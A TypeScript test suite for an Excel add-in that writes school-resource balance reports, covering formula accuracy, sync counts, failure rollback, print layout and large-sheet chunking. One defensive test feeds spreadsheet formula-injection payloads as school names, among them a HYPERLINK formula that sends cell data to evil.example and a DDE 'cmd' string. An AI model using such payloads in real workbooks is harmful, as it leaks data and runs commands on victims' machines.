/**
 * The Office.js writer against the Excel double: few syncs whatever the county's size, every report formula
 * equal to the engine's value, no half-written sheet after a failure, the input sheet never touched.
 */
import fc from "fast-check";
import { doubleHost } from "../../src/excel/double/host";
import { ExcelDouble, REQUEST_LIMIT_BYTES } from "../../src/excel/double/excel";
import { OfficeError } from "../../src/excel/double/context";
import { Range } from "../../src/excel/double/sheet";
import { REPORT_SHEETS_SETTING } from "../../src/excel/officeHost";
import { BALANCE_LAYOUT } from "../../src/report/build";
import type { Report } from "../../src/report/model";
import { INDICATOR_IDS, LEVELS } from "../../src/standard/indicators";
import { sampleCountyRecords } from "../../src/sample/sampleCounty";
import { evaluateTable } from "../../src/pipeline";
import type { Evaluation } from "../../src/engine";
import { countyWorkbook, gridOf, randomCounty, reportOf } from "./county";

async function checkAndReport(excel: ExcelDouble) {
  const host = doubleHost(excel);
  await host.activateSheet("学校");
  const s0 = excel.syncCount;
  const grid = await host.readTable("usedRange");
  const readSyncs = excel.syncCount - s0;
  const { report, evaluation } = reportOf(grid);
  const s1 = excel.syncCount;
  const { written } = await host.writeReport(report, { replaceExisting: true });
  return { host, report, evaluation, written, readSyncs, writeSyncs: excel.syncCount - s1 };
}

const close = (a: unknown, b: number | null) => {
  if (b === null) return a === "";
  return typeof a === "number" && Math.abs(a - b) <= 1e-9 * Math.max(1, Math.abs(b));
};

/** docs/standard.md#coefficient: every X̄, S, CV and pass cell of 差异系数, computed by Excel's formulas, equals the engine. */
function expectFormulasMatchEngine(excel: ExcelDouble, sheet: string, evaluation: Evaluation) {
  const C = BALANCE_LAYOUT.columns;
  let checked = 0;
  for (const level of LEVELS) {
    for (const id of INDICATOR_IDS) {
      const r = BALANCE_LAYOUT.rowOf(level, id) - 1;
      const b = evaluation.levels[level].balance[id];
      const at = (c: number) => excel.model.officeValue(excel.model.requireSheet(sheet), r, c);
      const formulaOf = (c: number) => excel.model.cell(excel.model.requireSheet(sheet), r, c)?.formula;
      // a level without sections has nothing to weigh: its row is written as the engine's figures, no formula
      const none = evaluation.levels[level].sections === 0;
      for (const c of [C.students, C.countyRatio, C.standardDeviation, C.cv, C.pass]) {
        if (none) expect(formulaOf(c)).toBeUndefined();
        else expect(formulaOf(c)).toMatch(/^=/);
      }
      expect(at(C.students)).toBe(evaluation.levels[level].students);
      const cells = { countyRatio: at(C.countyRatio), sd: at(C.standardDeviation), cv: at(C.cv) };
      const ok =
        close(cells.countyRatio, b.countyRatio) &&
        close(cells.sd, b.standardDeviation) &&
        close(cells.cv, b.cv);
      if (!ok)
        throw new Error(`${level} ${id}: formulas ${JSON.stringify(cells)} vs engine ${JSON.stringify(b)}`);
      expect(at(C.pass)).toBe(b.pass ? "达标" : "不达标");
      checked++;
    }
  }
  return checked;
}

/** Every formula of every report sheet, computed by the double, equals the engine's value the cell carries. */
function expectEveryFormulaAsCached(excel: ExcelDouble, report: Report): number {
  const mismatches: string[] = [];
  let count = 0;
  for (const sheet of report.sheets) {
    const model = excel.model.requireSheet(sheet.name);
    sheet.rows.forEach((cells, r) =>
      cells.forEach((cell, c) => {
        if (!cell?.formula) return;
        count++;
        const got = excel.model.officeValue(model, r, c);
        const want = cell.value ?? null;
        const ok = typeof want === "number" ? close(got, want) : got === (want ?? "");
        if (!ok)
          mismatches.push(
            `${sheet.name}!R${r + 1}C${c + 1} ${cell.formula}: ${String(got)} ≠ ${String(want)}`,
          );
      }),
    );
  }
  expect(mismatches).toEqual([]);
  return count;
}

describe("report formulas in Excel equal the engine (docs/standard.md#coefficient, to 1e-9)", () => {
  test("the sample county", async () => {
    const excel = countyWorkbook(sampleCountyRecords());
    const { evaluation, written, report } = await checkAndReport(excel);
    expect(written).toEqual(["汇总", "达标情况", "差异系数", "学校数据"]);
    expect(expectFormulasMatchEngine(excel, "差异系数", evaluation)).toBe(14);
    expect(expectEveryFormulaAsCached(excel, report)).toBeGreaterThan(500);
    // the sample county has an indicator over its limit: the formula says so too
    const fails = LEVELS.flatMap((l) => INDICATOR_IDS.filter((id) => !evaluation.levels[l].balance[id].pass));
    expect(fails.length).toBeGreaterThan(0);
  });

  test("the English report: its formulas compare against the English words and still equal the engine", async () => {
    const excel = countyWorkbook(randomCounty(25, 77));
    const host = doubleHost(excel);
    const { report, evaluation } = reportOf(await host.readTable("usedRange"), "en");
    const { written } = await host.writeReport(report, { replaceExisting: true });
    expect(written).toEqual(["Summary", "Compliance", "Balance", "School data"]);
    expectEveryFormulaAsCached(excel, report);
    const C = BALANCE_LAYOUT.columns;
    const sheet = excel.model.requireSheet("Balance");
    for (const level of LEVELS) {
      for (const id of INDICATOR_IDS) {
        const r = BALANCE_LAYOUT.rowOf(level, id) - 1;
        const b = evaluation.levels[level].balance[id];
        expect(close(excel.model.officeValue(sheet, r, C.cv), b.cv)).toBe(true);
        expect(excel.model.officeValue(sheet, r, C.pass)).toBe(b.pass ? "Pass" : "Fail");
      }
    }
  });

  test.each([1, 2, 3, 5, 8, 13, 40, 120])("a random county of %i schools", async (n) => {
    const excel = countyWorkbook(randomCounty(n, 1000 + n));
    const { evaluation, report } = await checkAndReport(excel);
    expectFormulasMatchEngine(excel, "差异系数", evaluation);
    expectEveryFormulaAsCached(excel, report);
  });

  test("random counties (fast-check): every formula equals the engine", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 1, max: 30 }),
        fc.integer({ min: 0, max: 2 ** 31 - 1 }),
        async (n, seed) => {
          const excel = countyWorkbook(randomCounty(n, seed));
          const { evaluation, report } = await checkAndReport(excel);
          expectFormulasMatchEngine(excel, "差异系数", evaluation);
          expectEveryFormulaAsCached(excel, report);
        },
      ),
      { numRuns: 25 },
    );
  });

  test("a level with no section (P = 0) and an indicator with X̄ = 0 (CV undefined)", async () => {
    const records = randomCounty(12, 7).filter((r) => r.type === "primary");
    for (const r of records) r.teachers.primary.keyTeachers = 0;
    const excel = countyWorkbook(records);
    const { evaluation } = await checkAndReport(excel);
    expect(evaluation.levels.junior.sections).toBe(0);
    expect(evaluation.levels.primary.balance.keyTeachers.cv).toBeNull();
    expectFormulasMatchEngine(excel, "差异系数", evaluation);
  });
});

describe("round trips", () => {
  test("the number of syncs is the same for 10 and 300 schools", async () => {
    const small = await checkAndReport(countyWorkbook(randomCounty(10, 1)));
    const large = await checkAndReport(countyWorkbook(randomCounty(300, 2)));
    expect(large.readSyncs).toBe(small.readSyncs);
    expect(large.writeSyncs).toBe(small.writeSyncs);
    expect(small.readSyncs).toBeLessThanOrEqual(2);
    expect(small.writeSyncs).toBe(3);
  });

  test("replacing a report costs the same syncs and keeps one set of report sheets", async () => {
    const excel = countyWorkbook(randomCounty(30, 3));
    const first = await checkAndReport(excel);
    const before = excel.syncCount;
    const again = await first.host.writeReport(first.report, { replaceExisting: true });
    expect(excel.syncCount - before).toBe(3);
    expect(again.written).toEqual(first.written);
    expect(again.replaced).toEqual(first.written);
    expect(excel.model.sheets.map((s) => s.name)).toEqual([
      "学校",
      "汇总",
      "达标情况",
      "差异系数",
      "学校数据",
    ]);
    expect(await first.host.existingReportSheets(first.report)).toEqual([
      "汇总",
      "达标情况",
      "差异系数",
      "学校数据",
    ]);
  });
});

describe("what the writer leaves", () => {
  test("the input sheet is untouched", async () => {
    const excel = countyWorkbook(sampleCountyRecords());
    const input = JSON.stringify(excel.model.requireSheet("学校"));
    await checkAndReport(excel);
    await checkAndReport(excel);
    expect(JSON.stringify(excel.model.requireSheet("学校"))).toBe(input);
  });

  test("school names that look like formulas, numbers or sheet references are written as the same text", async () => {
    // names as a county's file may hold them as text: typed in, they would become formulas, a number, a date
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"第一小学")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "-2+3",
      "'第二小学",
      "007",
      "1/2",
      "学校数据!A1",
    ];
    const renamed = (name: string) => names[Number(/\d+$/.exec(name)?.[0]) - 1] ?? name;
    const records = randomCounty(names.length + 4, 9).map((r) => ({
      ...r,
      name: renamed(r.name),
      parent: r.parent === undefined ? undefined : renamed(r.parent),
    }));
    const { report } = reportOf(gridOf(records));
    const excel = new ExcelDouble();
    excel.addSheetWithValues("学校", [["测试县"]]);
    const host = doubleHost(excel);
    await host.writeReport(report, { replaceExisting: true });
    const wrong: string[] = [];
    let texts = 0;
    for (const sheet of report.sheets) {
      const model = excel.model.requireSheet(sheet.name);
      sheet.rows.forEach((cells, r) =>
        cells.forEach((cell, c) => {
          if (!cell || cell.formula || typeof cell.value !== "string" || cell.value === "") return;
          texts++;
          const written = excel.model.cell(model, r, c);
          if (written?.formula !== undefined || written?.value !== cell.value)
            wrong.push(`${sheet.name}!R${r + 1}C${c + 1}: ${JSON.stringify(written)} ≠ ${cell.value}`);
        }),
      );
    }
    expect(wrong).toEqual([]);
    // every name is in the report, as text
    const schoolData = excel.valuesOf("学校数据").flat();
    for (const name of names) expect(schoolData).toContain(name);
    expect(texts).toBeGreaterThan(100);
  });

  test("a sheet the add-in did not make is never modified, even with a report sheet's name", async () => {
    const excel = countyWorkbook(randomCounty(20, 4));
    excel.addSheetWithValues("达标情况", [["我的笔记"]]);
    const mine = JSON.stringify(excel.model.requireSheet("达标情况"));
    const { written, evaluation, host, report } = await checkAndReport(excel);
    expect(written).toEqual(["汇总", "达标情况 (2)", "差异系数", "学校数据"]);
    expect(JSON.stringify(excel.model.requireSheet("达标情况"))).toBe(mine);
    const P = BALANCE_LAYOUT.rowOf("primary", "qualifiedTeachers") - 1;
    expect(excel.model.sheet("差异系数")!.rows[P][2]!.formula).toContain("'达标情况 (2)'!");
    expectFormulasMatchEngine(excel, "差异系数", evaluation);
    expect(await host.existingReportSheets(report)).toEqual(["汇总", "达标情况 (2)", "差异系数", "学校数据"]);
  });

  test("without replacing, earlier report sheets stay and the new ones get free names", async () => {
    const excel = countyWorkbook(randomCounty(8, 5));
    const { host, report } = await checkAndReport(excel);
    const { written, replaced } = await host.writeReport(report, { replaceExisting: false });
    expect(written).toEqual(["汇总 (2)", "达标情况 (2)", "差异系数 (2)", "学校数据 (2)"]);
    expect(replaced).toEqual([]);
  });

  test("the report sheets are print-ready: A4, title rows and columns, page breaks, header and footer, borders, fonts", async () => {
    const excel = countyWorkbook(sampleCountyRecords());
    await checkAndReport(excel);
    // written hidden under temporary names, shown only once complete
    expect(excel.model.sheets.map((s) => s.visibility)).toEqual([
      "Visible",
      "Visible",
      "Visible",
      "Visible",
      "Visible",
    ]);
    const adds = excel.requests.flatMap((r) => r.names).filter((n) => n === "worksheet.visibility");
    expect(adds).toHaveLength(8);
    const compliance = excel.model.requireSheet("达标情况");
    expect(compliance.pageLayout).toMatchObject({
      orientation: "Landscape",
      paperSize: "A4",
      printTitleRows: "$3:$4",
      printTitleColumns: "$A:$B",
      printOrder: "OverThenDown",
      columnBreaks: ["K1"],
      centerHorizontally: true,
      margins: { left: 36, right: 36 },
    });
    expect(compliance.pageLayout.headersFooters.centerFooter).toMatch(/第 &P 页 共 &N 页$/);
    expect(compliance.pageLayout.headersFooters.rightHeader).toMatch(/学校资源配置达标情况$/);
    expect(compliance.freeze).toEqual({ rows: 4, columns: 2 });
    // printed at 100 %, each page across (A:B repeated, the break before K) fits A4 landscape inside its margins
    // at the widths in points the add-in sets: as wide as the report workbook's columns print
    const widths = [...compliance.columnWidths.entries()].sort((x, y) => x[0] - y[0]).map(([, w]) => w);
    const printable = 841.89 - 36 - 36;
    const sum = (xs: number[]) => xs.reduce((a, b) => a + b, 0);
    const pages = [sum(widths.slice(0, 10)), sum(widths.slice(0, 2)) + sum(widths.slice(10))];
    for (const page of pages) expect(page).toBeLessThanOrEqual(printable);
    const first = compliance.rows[6];
    expect(first[3]!.numberFormat).toBe("#,##0");
    expect(first[4]!.numberFormat).toBe("0.00");
    expect(first[4]!.format).toMatchObject({
      fontName: "宋体",
      size: 10,
      borders: { top: "Continuous", left: "Continuous" },
    });
    const balance = excel.model.requireSheet("差异系数");
    // landscape, the charts' page and the second chart's (print.ts: its 9-point text at 9 pt with the widest face)
    expect(balance.pageLayout).toMatchObject({
      orientation: "Landscape",
      fitToWidth: true,
      rowBreaks: [expect.stringMatching(/^A\d+$/), expect.stringMatching(/^A\d+$/)],
    });
    expect(balance.charts).toHaveLength(2);
    expect(balance.charts[0].series[0].categories).toMatch(/^B\d+:B\d+$/);
    // failing cells are shaded
    const fail = compliance.rows.flat().filter((c) => c?.format?.fill === "#FFC7CE");
    expect(fail.length).toBeGreaterThan(0);
    // every cell of every report sheet in the report's font, none under 9 pt
    for (const name of ["汇总", "达标情况", "差异系数", "学校数据"]) {
      const cells = excel.model
        .requireSheet(name)
        .rows.flat()
        .filter((c) => c?.format);
      expect(cells.every((c) => c!.format!.fontName === "宋体" && (c!.format!.size ?? 10) >= 9)).toBe(true);
    }
  });

  test("a failure at any writing sync leaves the workbook as it was (with and without an earlier report)", async () => {
    for (const earlier of [false, true]) {
      const writes = (await probeWriteSyncs(earlier)) - 2;
      // a small request budget splits the writes into several syncs, each of which may fail
      expect(writes).toBeGreaterThanOrEqual(3);
      for (let k = 1; k <= writes; k++) {
        const { excel, host, report } = await smallBudgetCounty(earlier);
        const before = excel.model.snapshot();
        excel.failAtSync = excel.syncCount + 1 + k;
        await expect(host.writeReport(report, { replaceExisting: true })).rejects.toThrow(/failed sync/);
        expect(excel.model.snapshot()).toEqual(before);
      }
    }
  });

  test("a failure in the last step (delete and rename) leaves no temporary sheet and a whole report", async () => {
    const { excel, host, report } = await smallBudgetCounty(true);
    const writes = (await probeWriteSyncs(true)) - 2;
    excel.failAtSync = excel.syncCount + 2 + writes;
    await expect(host.writeReport(report, { replaceExisting: true })).rejects.toThrow(/failed sync/);
    const names = excel.model.sheets.map((s) => s.name);
    expect(names.filter((n) => n.startsWith("~"))).toEqual([]);
    expect(names).toEqual(expect.arrayContaining(["学校", "达标情况", "差异系数", "汇总"]));
    expect(await host.existingReportSheets(report)).toEqual(
      expect.arrayContaining(["达标情况", "差异系数", "汇总"]),
    );
  });

  test("a failure while learning the workbook's sheets changes nothing", async () => {
    const excel = countyWorkbook(randomCounty(10, 8));
    const host = doubleHost(excel);
    const { report } = reportOf(await host.readTable("usedRange"));
    const before = excel.model.snapshot();
    excel.failAtSync = excel.syncCount + 1;
    await expect(host.writeReport(report, { replaceExisting: true })).rejects.toThrow();
    expect(excel.model.snapshot()).toEqual(before);
  });
});

/** A county whose report is written with a small request budget, so that writing takes several syncs. */
async function smallBudgetCounty(earlier: boolean) {
  const excel = countyWorkbook(randomCounty(40, 6));
  const host = doubleHost(excel, { requestBudget: 8000 });
  const { report } = reportOf(await host.readTable("usedRange"));
  if (earlier) await host.writeReport(report, { replaceExisting: true });
  return { excel, host, report };
}

/** Number of syncs one writeReport takes with the small budget of the failure tests. */
async function probeWriteSyncs(earlier: boolean): Promise<number> {
  const { excel, host, report } = await smallBudgetCounty(earlier);
  const start = excel.syncCount;
  await host.writeReport(report, { replaceExisting: true });
  return excel.syncCount - start;
}

describe("chunking under Office's 5 MB request limit", () => {
  test("a 100,000-row sheet is written in requests under 5 MB, each block its own sync", async () => {
    const rows = Array.from({ length: 100000 }, (_, i) => [
      { value: `第${i + 1}所学校的一个相当长的名称` },
      { value: "小学" },
      { value: i, format: "0" },
      { value: i / 7, format: "0.00" },
      { value: (i * 13) % 1000, format: "0.00" },
      { value: i % 3 === 0 ? "未达标" : "达标", style: i % 3 === 0 ? ("fail" as const) : undefined },
    ]);
    const report: Report = {
      sheets: [
        {
          key: "compliance",
          name: "达标情况",
          rows,
          print: { orientation: "landscape", paper: "A4", titleRows: [1, 1] },
        },
      ],
    };
    const excel = new ExcelDouble();
    excel.addSheetWithValues("学校", [["x"]]);
    const t0 = Date.now();
    await doubleHost(excel).writeReport(report, { replaceExisting: true });
    const writes = excel.requests.slice(1);
    expect(writes.length).toBeGreaterThan(3);
    for (const r of writes) expect(r.bytes).toBeLessThan(REQUEST_LIMIT_BYTES);
    const sheet = excel.model.requireSheet("达标情况");
    expect(sheet.rows[99999][0]!.value).toBe("第100000所学校的一个相当长的名称");
    expect(sheet.rows[99999][3]!.numberFormat).toBe("0.00");
    expect(sheet.rows[99999][5]!.format?.fill).toBe("#FFC7CE");
    expect(Date.now() - t0).toBeLessThan(60000);
  }, 120000);
});

describe("reading under Office's 5 MB response limit", () => {
  test("an Excel without Range.getUsedRangeOrNullObject (ExcelApi 1.4) reads a large range whole, as before", async () => {
    const records = randomCounty(10, 12);
    const excel = countyWorkbook(records);
    excel.model.writeInput(excel.model.requireSheet("学校"), 299, 16383, "备注");
    excel.model.changed();
    const supported = Range.prototype.getUsedRangeOrNullObject;
    // as Excel 2016 answers a request with an API it lacks: the request fails
    Range.prototype.getUsedRangeOrNullObject = function (this: Range) {
      return new Range(this.ctx, () => {
        throw new OfficeError("ApiNotFound", "Range.getUsedRangeOrNullObject");
      });
    };
    try {
      const host = doubleHost(excel);
      await host.activateSheet("学校");
      const grid = await host.readTable("usedRange");
      expect(grid.values[299][16383]).toBe("备注");
      expect(evaluateTable(grid).read.records).toEqual(evaluateTable(gridOf(records)).read.records);
    } finally {
      Range.prototype.getUsedRangeOrNullObject = supported;
    }
  });

  test.each([
    [299, 16383, "XFD300"],
    [1048575, 16383, "XFD1048576"],
  ])("a stray value at %s, %s (%s) costs its own cell, not the rectangle to it", async (row, col) => {
    const records = randomCounty(30, 11);
    const excel = countyWorkbook(records);
    const sheet = excel.model.requireSheet("学校");
    sheet.hiddenRows.add(5);
    excel.model.writeInput(sheet, row, col, "备注");
    excel.model.changed();
    const host = doubleHost(excel);
    await host.activateSheet("学校");
    const before = excel.requests.length;
    const grid = await host.readTable("usedRange");
    const read = excel.requests.slice(before).reduce((n, r) => n + (r.responseBytes ?? 0), 0);
    // the table's 32 rows of 27 cells and the stray one: some kilobytes, never the megabytes of the rectangle
    expect(read).toBeLessThan(200_000);
    expect(grid.values[row][col]).toBe("备注");
    expect(grid.hiddenRows).toEqual([5]);
    // the table reads as it does without the stray value
    const alone = evaluateTable(gridOf(records));
    expect(evaluateTable(grid).read.records).toEqual(alone.read.records);
  });

  test("a 100,000-row table is read in blocks, each response under 5 MB", async () => {
    const excel = new ExcelDouble();
    const rows = Array.from({ length: 100000 }, (_, i) => [`学校${i}`, "小学", i, i * 1.5, i % 7]);
    excel.addSheetWithValues("学校", rows);
    const t0 = Date.now();
    const grid = await doubleHost(excel).readTable("usedRange");
    expect(grid.values).toHaveLength(100000);
    expect(grid.values[99999]).toEqual(["学校99999", "小学", 99999, 149998.5, 99999 % 7]);
    const reads = excel.requests.filter((r) => (r.responseBytes ?? 0) > 0);
    expect(reads.length).toBeGreaterThan(2);
    for (const r of reads) expect(r.responseBytes).toBeLessThan(REQUEST_LIMIT_BYTES);
    expect(Date.now() - t0).toBeLessThan(60000);
  }, 120000);

  test("cells fuller than the estimate: a refused response is read again in smaller blocks", async () => {
    const excel = new ExcelDouble();
    const long = "很长的备注".repeat(40);
    excel.addSheetWithValues(
      "学校",
      Array.from({ length: 30000 }, (_, i) => [`学校${i}`, long]),
    );
    const grid = await doubleHost(excel).readTable("usedRange");
    expect(grid.values).toHaveLength(30000);
    expect(grid.values[29999]).toEqual(["学校29999", long]);
    // Office refused at least one response, and the host read that part again
    expect(excel.requests.some((r) => (r.responseBytes ?? 0) > REQUEST_LIMIT_BYTES)).toBe(true);
  }, 120000);
});

describe("the other host calls", () => {
  test("settings round trip through the workbook and selectCell selects the cell", async () => {
    const excel = countyWorkbook(randomCounty(3, 9));
    const host = doubleHost(excel);
    expect(await host.loadSettings("balance.mapping")).toBeNull();
    await host.saveSettings("balance.mapping", { teachingArea: 15 });
    expect(await host.loadSettings("balance.mapping")).toEqual({ teachingArea: 15 });
    await host.selectCell("学校!F12");
    expect(excel.model.selection).toEqual({ sheet: "学校", rect: { r0: 11, c0: 5, r1: 11, c1: 5 } });
    expect(excel.model.settings.has(REPORT_SHEETS_SETTING)).toBe(false);
  });

  test("insertTemplate writes the header the reader recognises, with the sample county on request", async () => {
    const excel = new ExcelDouble();
    excel.addSheetWithValues("Sheet1", [[]]);
    const host = doubleHost(excel);
    const name = await host.insertTemplate({ withSample: true, lang: "zh" });
    expect(name).toBe("学校");
    const grid = await host.readTable("usedRange");
    const { evaluation } = reportOf(grid);
    expect(evaluation.sections.length).toBeGreaterThan(20);
    // printable as `balance template`: A4 landscape, one page wide, the header repeated and as tall as its text
    const sheet = excel.model.requireSheet("学校");
    expect(sheet.pageLayout).toMatchObject({
      orientation: "Landscape",
      paperSize: "A4",
      fitToWidth: true,
      printTitleRows: "$2:$2",
    });
    expect(sheet.pageLayout.headersFooters.centerFooter).toMatch(/第 &P 页 共 &N 页$/);
    expect(sheet.rowHeights.get(1)).toBeGreaterThanOrEqual(60);
    expect(await host.insertTemplate({ withSample: false, lang: "zh" })).toBe("学校 (2)");
  });

  test("listSheets gives the visible sheets, the report sheets marked; readSheet reads one by name", async () => {
    const excel = countyWorkbook(randomCounty(6, 8));
    excel.addSheetWithValues("2025年", [["去年的表"], ["甲小学", 500]]);
    excel.addSheetWithValues("隐藏", [["x"]]);
    excel.model.requireSheet("隐藏").visibility = "Hidden";
    const host = doubleHost(excel);
    const { report } = reportOf(await host.readTable("usedRange"));
    const { written } = await host.writeReport(report, { replaceExisting: true });
    expect(await host.listSheets()).toEqual([
      { name: "学校", report: false },
      { name: "2025年", report: false },
      ...written.map((name) => ({ name, report: true })),
    ]);
    await host.activateSheet("学校");
    const s0 = excel.syncCount;
    const grid = await host.readSheet("2025年");
    expect(excel.syncCount - s0).toBe(2);
    expect(grid).toEqual({
      sheet: "2025年",
      topLeft: "A1",
      values: [
        ["去年的表", ""],
        ["甲小学", 500],
      ],
    });
    await expect(host.readSheet("没有这张表")).rejects.toThrow();
  });

  test("of several Excel tables on the sheet, readTable takes the one the selection is in", async () => {
    const excel = countyWorkbook(randomCounty(5, 10));
    await excel.run(async (context) => {
      const ws = context.workbook.worksheets.getItem("学校");
      // a small table of notes above the schools: the first table of the sheet is not the school table
      ws.getRange("AC1:AD2").values = [
        ["备注", "填表人"],
        ["2026 年", "张三"],
      ];
      ws.tables.add("AC1:AD2", true);
      ws.tables.add("A2:AA7", true);
      await context.sync();
    });
    const host = doubleHost(excel);
    await host.selectCell("学校!C4");
    const table = await host.readTable("table");
    expect(table.topLeft).toBe("A2");
    expect(table.values).toHaveLength(6);
    await host.selectCell("学校!AD2");
    expect((await host.readTable("table")).topLeft).toBe("AC1");
    // the selection in neither: the pane asks which, naming the tables, rather than guessing
    await host.selectCell("学校!AB20");
    await expect(host.readTable("table")).rejects.toMatchObject({
      code: "which-table",
      messages: { zh: expect.stringContaining("选中学校表中的一个单元格") },
    });
  });

  test("a selection of whole columns (A:AA) reads the rows that hold data, not a million blank ones", async () => {
    const excel = countyWorkbook(randomCounty(5, 10));
    const host = doubleHost(excel);
    const whole = await host.readSheet("学校");
    await host.selectCell("学校!A1:AA1048576");
    const before = excel.syncCount;
    const sel = await host.readTable("selection");
    expect(excel.syncCount - before).toBe(2);
    expect(sel).toEqual(whole);
    // a selection beside the data reads its part only, addressed where it is
    await host.selectCell("学校!C2:E1048576");
    const part = await host.readTable("selection");
    expect(part.topLeft).toBe("C2");
    expect(part.values).toEqual(whole.values.slice(1).map((row) => row.slice(2, 5)));
  });

  test("a hidden row inside a selection of whole columns is still found", async () => {
    const excel = countyWorkbook(randomCounty(5, 10));
    await excel.run(async (context) => {
      context.workbook.worksheets.getItem("学校").getRange("A4").rowHidden = true;
      await context.sync();
    });
    const host = doubleHost(excel);
    await host.selectCell("学校!A:AA");
    const sel = await host.readTable("selection");
    expect(sel.hiddenRows).toEqual([3]);
  });

  test("a sheet's only table is read wherever the selection is", async () => {
    const excel = countyWorkbook(randomCounty(5, 10));
    await excel.run(async (context) => {
      context.workbook.worksheets.getItem("学校").tables.add("A2:AA7", true);
      await context.sync();
    });
    const host = doubleHost(excel);
    await host.selectCell("学校!AB20");
    expect((await host.readTable("table")).topLeft).toBe("A2");
  });

  test("readTable takes the selection or an Excel table", async () => {
    const excel = countyWorkbook(randomCounty(5, 10));
    await excel.run(async (context) => {
      context.workbook.worksheets.getItem("学校").tables.add("A2:AA7", true);
      await context.sync();
    });
    const host = doubleHost(excel);
    const table = await host.readTable("table");
    expect(table.topLeft).toBe("A2");
    expect(table.values).toHaveLength(6);
    await host.selectCell("学校!B3:C4");
    const sel = await host.readTable("selection");
    expect(sel).toMatchObject({ sheet: "学校", topLeft: "B3" });
    expect(sel.values).toHaveLength(2);
  });
});
